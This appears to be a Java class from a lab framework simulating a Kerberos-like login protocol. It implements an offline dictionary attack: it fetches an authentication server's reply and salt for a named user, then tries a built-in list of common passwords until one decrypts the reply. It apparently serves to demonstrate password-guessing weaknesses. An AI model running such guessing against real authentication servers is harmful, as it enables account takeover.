package hallpass.attack;

import hallpass.client.exchange.LoginExchange;
import hallpass.client.exchange.WrongPassword;
import hallpass.crypto.BadSaltException;
import hallpass.crypto.SymmetricKey;
import hallpass.message.AsRep;
import hallpass.message.AsReq;
import hallpass.message.PreAuthenticationRep;
import hallpass.message.PreAuthenticationReq;
import hallpass.message.PrincipalName;
import hallpass.protocol.Occasion;
import hallpass.protocol.Refusal;
import hallpass.trace.Party;
import java.util.List;
import java.util.Optional;

/** Tries a list of words on what the AS gives away, as the client's own code would try what is typed. */
public final class Guesser {
    /** Those that people use. A real list has some million more, which take some minutes. */
    public static final List<String> WORDS = List.of(
            "123456",
            "password",
            "qwerty",
            "letmein",
            "dragon",
            "baseball",
            "football",
            "monkey",
            "sunshine",
            "princess",
            "shadow",
            "master",
            "superman",
            "welcome",
            "hallpass");

    private final Stage stage;

    public Guesser(Stage stage) {
        this.stage = stage;
    }

    /** Somebody of this name and one of the words, if that is who the AS knows. */
    public Optional<Person> guess(String name) throws Exception {
        LoginExchange exchange = stage.setting().loginExchange();
        AsReq request = exchange.ask(
                new PrincipalName(name),
                stage.config().ticketGrantingName(),
                stage.lab().randomness(),
                stage.now());
        try (Line line = stage.line(Party.AS)) {
            String salt = line.ask(new PreAuthenticationReq(request.client()), PreAuthenticationRep.class)
                    .salt();
            AsRep reply = line.ask(request, AsRep.class);
            Occasion at = stage.now();
            for (String word : WORDS) {
                if (opens(exchange, request, reply, key(word, salt), at)) {
                    return Optional.of(new Person(new PrincipalName(name), word, stage.setting()));
                }
            }
            return Optional.empty();
        }
    }

    private SymmetricKey key(String word, String salt) throws BadSaltException {
        return stage.config().profile().passwordToKey().toKey("K_c", word.toCharArray(), salt);
    }

    private static boolean opens(LoginExchange exchange, AsReq request, AsRep reply, SymmetricKey key, Occasion at)
            throws Refusal {
        try {
            exchange.accept(request, reply, key, at);
            return true;
        } catch (WrongPassword wrong) {
            return false;
        }
    }
}
